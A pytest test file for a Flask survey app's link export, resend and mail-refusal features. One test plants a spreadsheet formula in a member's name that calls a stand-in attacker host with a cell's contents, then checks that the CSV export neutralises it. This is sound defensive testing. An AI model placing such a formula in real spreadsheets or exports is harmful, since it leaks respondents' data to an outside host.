"""Survey links without a mail server, one person's link and a resend, and refusing to send
mail while the sender or help address is still a default (a real SMTP server: aiosmtpd)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select, update

from survey_app.extensions import db
from survey_app.models import AuditEvent, Invitation, Member, Study, Wave, utcnow
from tests.survey_app.smtp_support import MAIL_CONFIG, Smtp, free_port, run_cli
from tests.survey_app.staff_support import add_user, build_study, post, sign_in, text_of

STAFF = "eval@example.org"


@dataclass
class Office:
    app: Flask
    client: FlaskClient
    token: str
    study_id: int
    wave_url: str


@pytest.fixture
def office(app: Flask) -> Iterator[Office]:
    """An evaluator of study CLAHRC (wave 1 open, four memberships, nothing sent yet)."""
    app.config.update(MAIL_CONFIG)
    with app.app_context():
        fixture = build_study(db.session, "CLAHRC")
        study = db.session.get(Study, fixture.study_id)
        add_user(db.session, STAFF, "evaluator", study=study)
        db.session.commit()
        wave_url = f"/admin/studies/{fixture.study_id}/waves/{fixture.wave_id}"
    client = app.test_client()
    token = sign_in(client, STAFF)
    yield Office(app, client, token, fixture.study_id, wave_url)


def _rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # a byte-order mark, for Excel
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def _events(app: Flask, action: str) -> list[AuditEvent]:
    with app.app_context():
        return list(db.session.scalars(select(AuditEvent).where(AuditEvent.action == action)))


def _invitations(app: Flask) -> list[Invitation]:
    with app.app_context():
        found = list(db.session.scalars(select(Invitation).order_by(Invitation.id)))
        db.session.expunge_all()
        return found


def test_the_links_download_holds_every_link_and_each_opens_its_survey(office: Office) -> None:
    response = post(office.client, f"{office.wave_url}/links", office.token, {"who": "everyone"})
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    rows = _rows(response.data)
    assert list(rows[0]) == ["name", "email", "team", "wave", "link"]
    assert sorted((r["email"], r["team"]) for r in rows) == [
        ("ann@example.org", "Community"),
        ("ann@example.org", "Ward 7"),
        ("bob@example.org", "Ward 7"),
        ("cat@example.org", "Renal"),
    ]
    assert {r["wave"] for r in rows} == {"1"}
    respondent = office.app.test_client()
    for row in rows:
        assert row["link"].startswith(MAIL_CONFIG["BASE_URL"] + "/s/")
        page = respondent.get(urlsplit(row["link"]).path + "/consent")
        assert page.status_code == 200 and row["team"] in page.text
    invitations = _invitations(office.app)
    assert len(invitations) == 4
    assert all(i.sent_at is not None and i.sent_via == "links" for i in invitations)
    [event] = _events(office.app, "links.export")
    assert event.actor == STAFF and event.study_id == office.study_id
    assert event.detail == {"wave": 1, "links": 4, "who": "everyone", "new": 4, "via": "web"}
    assert "/s/" not in str(event.detail)
    tracking = text_of(office.client.get(f"{office.wave_url}/tracking"))
    assert "<td>4</td>" in tracking.split("All teams shown")[1].split("</tr>")[0]


def test_a_reminder_download_holds_only_those_who_have_not_answered(office: Office) -> None:
    post(office.client, f"{office.wave_url}/links", office.token, {"who": "everyone"})
    with office.app.app_context():
        bob = db.session.scalar(
            select(Invitation.id)
            .join(Invitation.membership)
            .join(Member)
            .where(Member.email == "bob@example.org")
        )
        db.session.execute(
            update(Invitation).where(Invitation.id == bob).values(submitted_at=utcnow())
        )
        db.session.commit()
    response = post(
        office.client, f"{office.wave_url}/links", office.token, {"who": "not_submitted"}
    )
    emails = sorted(r["email"] for r in _rows(response.data))
    assert emails == ["ann@example.org", "ann@example.org", "cat@example.org"]
    assert _events(office.app, "links.export")[-1].detail == {
        "wave": 1,
        "links": 3,
        "who": "not_submitted",
        "new": 0,
        "via": "web",
    }


def test_a_name_a_spreadsheet_would_run_is_neutralised(office: Office) -> None:
    with office.app.app_context():
        db.session.execute(
            update(Member)
            .where(Member.email == "cat@example.org")
            .values(name='=HYPERLINK("http://evil.example/?"&A1,"Open")')
        )
        db.session.commit()
    response = post(office.client, f"{office.wave_url}/links", office.token, {"who": "everyone"})
    text = response.data.decode("utf-8-sig")
    assert "\r\n" in text
    line = next(line for line in text.split("\r\n") if "cat@example.org" in line)
    assert line.startswith("\"'=HYPERLINK(")


def test_no_links_once_the_wave_has_closed(office: Office) -> None:
    with office.app.app_context():
        db.session.execute(update(Wave).values(closed_early_at=utcnow()))
        db.session.commit()
    response = post(office.client, f"{office.wave_url}/links", office.token, {"who": "everyone"})
    assert response.status_code == 303
    assert "no longer take answers" in text_of(office.client.get(response.headers["Location"]))
    assert _invitations(office.app) == [] and _events(office.app, "links.export") == []


def test_copkit_export_links_writes_the_same_links(office: Office, tmp_path: Path) -> None:
    out = tmp_path / "links.csv"
    args = ["export-links", "--study", "CLAHRC", "--wave", "1", "--out", str(out)]
    result = run_cli(office.app, args)
    assert result.exit_code == 0, result.output
    assert f'Wrote 4 links of wave 1 of "CLAHRC" to {out}.' in result.stdout
    rows = _rows(out.read_bytes())
    web = _rows(
        post(office.client, f"{office.wave_url}/links", office.token, {"who": "everyone"}).data
    )
    assert rows == web  # the same links: a link is derived, not drawn anew
    [first, second] = _events(office.app, "links.export")
    assert first.actor == "cli" and first.detail is not None and first.detail["via"] == "cli"
    assert second.detail is not None and second.detail["new"] == 0
    for bad, message in (
        (["--study", "Nope", "--wave", "1"], 'no study named "Nope"'),
        (["--study", "CLAHRC", "--wave", "9"], "has no wave 9"),
    ):
        refused = run_cli(office.app, ["export-links", *bad, "--out", str(tmp_path / "x.csv")])
        assert refused.exit_code == 1 and message in refused.output
    missing = run_cli(office.app, [*args[:5], "--out", str(tmp_path / "no" / "x.csv")])
    assert missing.exit_code == 1 and "does not exist" in missing.output
    with office.app.app_context():
        db.session.execute(update(Wave).values(closed_early_at=utcnow()))
        db.session.commit()
    closed = run_cli(office.app, [*args[:5], "--out", str(tmp_path / "late.csv")])
    assert closed.exit_code == 1 and "no longer take answers" in closed.output
    assert not (tmp_path / "late.csv").exists()


def _one_invitation(office: Office) -> int:
    post(office.client, f"{office.wave_url}/links", office.token, {"who": "everyone"})
    return _invitations(office.app)[0].id


def test_one_persons_link_is_shown_to_copy_and_audited(office: Office) -> None:
    response = post(office.client, f"{office.wave_url}/links", office.token, {"who": "everyone"})
    links = {r["email"] + "/" + r["team"]: r["link"] for r in _rows(response.data)}
    invitation = _invitations(office.app)[0]
    page = office.client.get(f"{office.wave_url}/non-responders").text
    assert f"/invitations/{invitation.id}/link" in page
    shown = post(office.client, f"{office.wave_url}/invitations/{invitation.id}/link", office.token)
    assert shown.status_code == 200
    assert shown.text.count("/s/") == 1 and any(link in shown.text for link in links.values())
    assert 'data-copy="#link"' in shown.text and "copy-link.js" in shown.text
    [event] = _events(office.app, "link.show")
    assert event.object_id == str(invitation.id) and "/s/" not in str(event.detail)
    assert (
        office.client.get(f"{office.wave_url}/invitations/{invitation.id}/link").status_code == 405
    )


def test_a_resend_mails_the_same_link_to_one_person(office: Office, smtp: Smtp) -> None:
    office.app.config["SMTP_PORT"] = smtp.port
    invitation_id = _one_invitation(office)
    response = post(
        office.client, f"{office.wave_url}/invitations/{invitation_id}/resend", office.token
    )
    assert response.status_code == 303
    page = text_of(office.client.get(response.headers["Location"]))
    assert "The invitation was sent again to ann@example.org." in page
    [message] = smtp.collector.messages
    assert message["To"].endswith("<ann@example.org>")
    [event] = _events(office.app, "invitation.resend")
    assert event.detail == {"wave": 1, "sent": True, "error": None}


def test_mail_is_refused_with_the_reason_while_sender_or_help_address_is_a_default(
    office: Office, smtp: Smtp, tmp_path: Path
) -> None:
    office.app.config.update(SMTP_PORT=smtp.port, MAIL_FROM="copkit@localhost", HELP_EMAIL=None)
    page = text_of(office.client.get(office.wave_url))
    assert "the sender address is still copkit&#39;s default (copkit@localhost)" in page
    assert "respondents have no address to write to" in page
    refused = post(office.client, f"{office.wave_url}/invitations", office.token)
    flash = text_of(office.client.get(refused.headers["Location"]))
    assert "Nothing was sent: the sender address is still copkit" in flash
    invitation_id = _one_invitation(office)
    resend = post(
        office.client, f"{office.wave_url}/invitations/{invitation_id}/resend", office.token
    )
    assert "Not sent: the sender address" in text_of(office.client.get(resend.headers["Location"]))
    cli = run_cli(
        office.app,
        ["send-invitations", "--study", "CLAHRC", "--wave", "1"],
        MAIL_FROM="copkit@localhost",
        HELP_EMAIL=None,
        SMTP_PORT=smtp.port,
    )
    assert cli.exit_code == 1 and "nothing was sent:" in cli.output
    assert "the sender address is still copkit's default (copkit@localhost)" in cli.output
    assert smtp.collector.messages == []
    # a real sender, and the study's own contact (no HELP_EMAIL): mail goes out
    office.app.config["MAIL_FROM"] = "survey@example.org"
    with office.app.app_context():
        db.session.execute(update(Study).values(contact_email="team@example.org"))
        db.session.commit()
    assert "copkit does not send" not in text_of(office.client.get(office.wave_url))
    sent = post(office.client, f"{office.wave_url}/reminders", office.token)
    assert sent.status_code == 302


def test_send_failures_show_on_the_wave_page_with_counts_and_the_reason(office: Office) -> None:
    office.app.config["SMTP_PORT"] = free_port()  # nobody listens there
    response = post(office.client, f"{office.wave_url}/invitations", office.token)
    flash = text_of(office.client.get(response.headers["Location"]))
    assert "0 invitations sent (4 new invitations created), 4 failed" in flash
    assert "could not connect to the mail server 127.0.0.1" in flash
    page = text_of(office.client.get(office.wave_url))
    summary = page.split("could not be e-mailed")[0].rsplit("<p>", 1)[1]
    assert summary.strip().startswith("4 invitations")
    reasons = page.split("could not be e-mailed")[1].split("</ul>")[0]
    assert "could not connect to the mail server 127.0.0.1" in reasons and "(4)" in reasons
